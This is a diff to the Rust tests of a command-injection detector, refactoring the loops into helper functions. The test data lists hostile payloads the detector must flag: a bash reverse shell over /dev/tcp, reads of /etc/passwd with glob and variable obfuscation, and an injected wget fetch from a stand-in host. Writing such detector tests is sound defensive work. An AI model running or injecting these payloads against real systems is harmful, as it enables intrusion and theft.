@@ -412,34 +412,42 @@ fn windows_or_ssi(v: &[u8]) -> Option<CmdiMatch> {
 mod tests {
     use super::detect;
 
+    fn commands(values: &[&str]) {
+        for v in values {
+            assert!(detect(v.as_bytes()).is_some(), "{v:?}");
+        }
+    }
+
+    fn prose(values: &[&str]) {
+        for v in values {
+            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
+        }
+    }
+
     /// A word that is also English, then `;`: a command when glued, last, or followed by
     /// a command line; prose after a blank is not.
     #[test]
     fn english_programs_before_a_semicolon() {
-        for v in [
+        commands(&[
             "id;",
             "id;uname",
             "time; ansible-config dump\n",
             "time; ansible all -m ping",
             "c${u}at /etc/passwd",
             ";w${x}hoami",
-        ] {
-            assert!(detect(v.as_bytes()).is_some(), "{v}");
-        }
-        for v in [
+        ]);
+        prose(&[
             "system; it is up to the author/donor to decide if he or she is willing",
             "\"History\"; likewise combine any sections Entitled \"Acknowledgements\",",
             "date; see the notes below",
-        ] {
-            assert_eq!(detect(v.as_bytes()), None, "{v}");
-        }
+        ]);
     }
 
     /// Command lines run through a wrapper, and bash's network redirections; prose
     /// that starts with an English wrapper stays prose.
     #[test]
     fn wrappers_and_dev_tcp() {
-        for v in [
+        commands(&[
             "nohup sh -c whoami",
             "strace sh -c whoami",
             "cpulimit -l 100 -f whoami",
@@ -450,35 +458,27 @@ mod tests {
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             // a program's absolute path with a path argument (a glob in its name)
             "/bin/ca? /et*/passwd",
-        ] {
-            assert!(detect(v.as_bytes()).is_some(), "{v:?}");
-        }
-        for v in [
+        ]);
+        prose(&[
             "nice cat pictures",
             "time flies like an arrow",
             "watch dir changes",
-        ] {
-            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
-        }
+        ]);
     }
 
     /// A line break separates commands as `;` does (wapiti's `[VALUE][LF]env;`), and
     /// like `; ` followed by prose, a line of prose is not one.
     #[test]
     fn line_breaks_separate_commands() {
-        for v in [
+        commands(&[
             "1\nenv;",
             "1\ncat /etc/passwd",
             "x\r\nwget http://e.example/s",
             "1\nid",
-        ] {
-            assert!(detect(v.as_bytes()).is_some(), "{v:?}");
-        }
-        for v in [
+        ]);
+        prose(&[
             "Dear team,\nmore details follow next week",
             "Line one\ntime flies when you are having fun",
-        ] {
-            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
-        }
+        ]);
     }
 }
